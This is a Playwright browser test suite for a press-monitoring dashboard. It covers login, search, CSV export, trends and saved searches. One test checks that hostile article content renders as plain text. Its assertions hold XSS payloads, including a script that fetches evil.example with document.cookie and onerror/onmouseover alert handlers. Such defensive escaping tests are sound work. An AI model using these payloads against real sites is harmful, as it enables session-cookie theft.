import { mkdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  ANALYST,
  type DashboardsFixture,
  startFixtureDashboards,
  XSS_TITLE,
} from './support/dashboards-fixture.ts';

// The dashboards in Debian's Chromium, against fixture articles in the real
// Elasticsearch. Every page is saved as a screenshot under test-results/screenshots.

const SCREENSHOTS = path.resolve(import.meta.dirname, '../../test-results/screenshots');

let fixture: DashboardsFixture;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Requests that went anywhere but the dashboards' own server. */
let leaked: string[];
let dialogs: string[];
let cspViolations: string[];
let pageErrors: string[];

beforeAll(async () => {
  fixture = await startFixtureDashboards('dash-browser');
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] });
  await mkdir(SCREENSHOTS, { recursive: true });
});

afterAll(async () => {
  await browser?.close();
  await fixture?.close();
});

beforeEach(async () => {
  leaked = [];
  dialogs = [];
  cspViolations = [];
  pageErrors = [];
  context = await browser.newContext({
    acceptDownloads: true,
    locale: 'en-GB',
    viewport: { width: 1280, height: 900 },
  });
  page = await context.newPage();
  page.on('request', (request) => {
    if (!request.url().startsWith(fixture.url)) leaked.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) cspViolations.push(message.text());
  });
  page.on('pageerror', (error) => pageErrors.push(error.message));
});

afterEach(async () => {
  await context.close();
  expect(leaked, 'requests to other hosts').toEqual([]);
  expect(dialogs, 'dialogs').toEqual([]);
  expect(cspViolations, 'CSP violations').toEqual([]);
  expect(pageErrors, 'page errors').toEqual([]);
});

async function logIn(): Promise<void> {
  await page.goto(`${fixture.url}/login`);
  await page.fill('#username', ANALYST.name);
  await page.fill('#password', ANALYST.password);
  await page.click('#login-button');
  await page.waitForSelector('#current-user');
}

async function screenshot(name: string): Promise<void> {
  await page.screenshot({ path: path.join(SCREENSHOTS, `${name}.png`), fullPage: true });
}

describe('the dashboards in Chromium', () => {
  it('sends a visitor to the login page, refuses a wrong password, then logs in and out', async () => {
    await page.goto(`${fixture.url}/search?q=refugiat`);
    await page.waitForURL(/\/login\?next=/);
    await screenshot('login');
    await page.fill('#username', ANALYST.name);
    await page.fill('#password', 'wrong password');
    await page.click('#login-button');
    await expect.poll(() => page.textContent('.login [role=alert]')).toBe('Wrong user name or password.');
    await page.fill('#password', ANALYST.password);
    await page.click('#login-button');
    // Back to the search that was asked for.
    await page.waitForURL(/\/search\?q=refugiat$/);
    await page.waitForSelector('#hits');
    expect(await page.textContent('#current-user')).toBe('ana');
    const cookies = await context.cookies();
    expect(cookies.find((cookie) => cookie.name === 'pressmon_session')).toMatchObject({
      httpOnly: true,
      sameSite: 'Strict',
    });
    await page.click('#logout');
    await page.waitForURL(/\/login$/);
    await page.goto(`${fixture.url}/trends`);
    await page.waitForURL(/\/login\?next=%2Ftrends/);
  });

  it('searches, filters by a facet, keeps the state in the address, and pages', async () => {
    await logIn();
    await page.goto(`${fixture.url}/search`);
    await page.fill('#q', 'refugiat');
    await page.press('#q', 'Enter');
    await page.waitForURL(/q=refugiat/);
    await page.waitForSelector(`li.hit[data-id="${fixture.articles.story.id}"]`);
    expect(await page.locator('#hits mark').count()).toBeGreaterThan(0);
    await screenshot('search');

    await page.check('input[data-facet="org"][data-key="cnrr"]');
    await page.waitForURL(/org=cnrr/);
    await expect.poll(() => page.textContent('#total')).toBe('2 articles');
    // A bookmarked address shows the same search.
    await page.reload();
    await expect.poll(() => page.textContent('#total')).toBe('2 articles');
    expect(await page.isChecked('input[data-facet="org"][data-key="cnrr"]')).toBe(true);
    await screenshot('search-filtered');

    await page.goto(`${fixture.url}/search?sort=date`);
    await expect.poll(() => page.locator('li.hit').count()).toBe(20);
    await page.click('#next-page');
    await page.waitForURL(/page=2/);
    await expect.poll(() => page.locator('li.hit').count()).toBe(8);
    await page.click('#previous-page');
    await page.waitForURL((url) => !url.search.includes('page=2'));
    await expect.poll(() => page.locator('li.hit').count()).toBe(20);
  });

  it('opens an article with its marked terms, story copies and raw page link', async () => {
    await logIn();
    await page.goto(`${fixture.url}/search?q=refugiat`);
    await page.click(`li.hit[data-id="${fixture.articles.story.id}"] a.hit-title`);
    await page.waitForURL(new RegExp(`/articles/${fixture.articles.story.id}$`));
    await page.waitForSelector('#article-title');
    expect(await page.textContent('#article-title')).toBe(fixture.articles.story.title);
    // The topic's and terminology's word, and the frame's (humanitarian_victim: "familiile").
    expect(await page.locator('#article-body mark').allTextContents()).toEqual([
      'Refugiați',
      'refugiați',
      'familiile',
    ]);
    expect(await page.textContent('#also-in')).toContain(fixture.articles.copy.title);
    expect(await page.getAttribute('#original-link', 'href')).toBe(fixture.articles.story.url);
    expect(await page.getAttribute('#original-link', 'rel')).toContain('noreferrer');
    expect(await page.getAttribute('#raw-link', 'href')).toBe(
      `/api/articles/${fixture.articles.story.id}/raw`,
    );
    await screenshot('article');
  });

  it('exports the whole result set as CSV', async () => {
    await logIn();
    await page.goto(`${fixture.url}/search?q=refugiat&org=cnrr`);
    await page.waitForSelector('#hits');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    const file = await download.path();
    const lines = (await readFile(file, 'utf8'))
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines).toHaveLength(3);
    expect(
      lines
        .slice(1)
        .map((line) => line.split(',')[0])
        .sort(),
    ).toEqual([fixture.articles.story.id, fixture.articles.copy.id].sort());
  });

  it('shows script and event-handler payloads as text: no dialog, no request elsewhere', async () => {
    await logIn();
    await page.goto(`${fixture.url}/search?q=${encodeURIComponent('migranți graniță')}`);
    const hit = page.locator(`li.hit[data-id="${fixture.articles.hostile.id}"]`);
    await hit.waitFor();
    expect(await hit.locator('a.hit-title').textContent()).toBe(XSS_TITLE);
    expect(await hit.locator('.chip.outlet').textContent()).toBe('G4Media <script>');
    expect(await page.locator('#content script, #content img, #content iframe, #content svg').count()).toBe(
      0,
    );
    await screenshot('search-hostile');

    await hit.locator('a.hit-title').click();
    await page.waitForSelector('#article-body');
    expect(await page.textContent('#article-title')).toBe(XSS_TITLE);
    const body = await page.textContent('#article-body');
    expect(body).toContain('<img src="http://evil.example/pixel.png" onerror="alert(2)">');
    expect(body).toContain('<script>fetch("http://evil.example/steal?c="+document.cookie)</script>');
    expect(await page.textContent('#article-lead')).toBe('<b onmouseover=alert(5)>lead</b>');
    expect(
      await page.locator('#content script, #content img, #content iframe, #content svg, #content b').count(),
    ).toBe(0);
    await page.hover('#article-lead');
    await screenshot('article-hostile');
  });

  it('draws trends: topic and frame charts, outlets, organisations, new words and places', async () => {
    await logIn();
    await page.goto(`${fixture.url}/trends`);
    await page.waitForSelector('#trend-topics canvas');
    await page.waitForSelector('#trend-frames canvas');
    expect(await page.textContent('#share-of-voice')).toContain('HotNews');
    const organisations = await page.locator('#organisations tbody tr').allTextContents();
    expect(organisations[0]).toContain('coalition member');
    expect(await page.textContent('#places')).toContain('Przemyśl');
    await page.waitForSelector('#new-terms h2');
    await screenshot('trends');
  });

  it('saves a search, lists it and deletes it; switches the interface language', async () => {
    await logIn();
    await page.goto(`${fixture.url}/search?q=refugiat&lang=ro`);
    await page.waitForSelector('#hits');
    await page.click('#save-search');
    await page.fill('#save-name', 'Refugees in Romanian');
    await page.check('#save-digest');
    await page.click('#save-confirm');
    await expect.poll(() => page.textContent('.save [role=status]')).toBe('Saved.');
    await page.click('nav a[href="/saved"]');
    await page.waitForSelector('#saved-searches');
    expect(await page.textContent('#saved-searches')).toContain('Refugees in Romanian');
    expect(await page.getAttribute('#saved-searches a', 'href')).toBe(
      '/search?q=refugiat&sort=relevance&lang=ro',
    );
    await screenshot('saved');

    await page.selectOption('#ui-language', 'ro');
    await expect.poll(() => page.textContent('nav a[href="/search"]')).toBe('Căutare');
    await page.selectOption('#ui-language', 'pl');
    await expect.poll(() => page.textContent('nav a[href="/search"]')).toBe('Wyszukiwanie');
    await page.click('#saved-searches button.delete');
    await page.waitForSelector('#no-saved');
  });
});
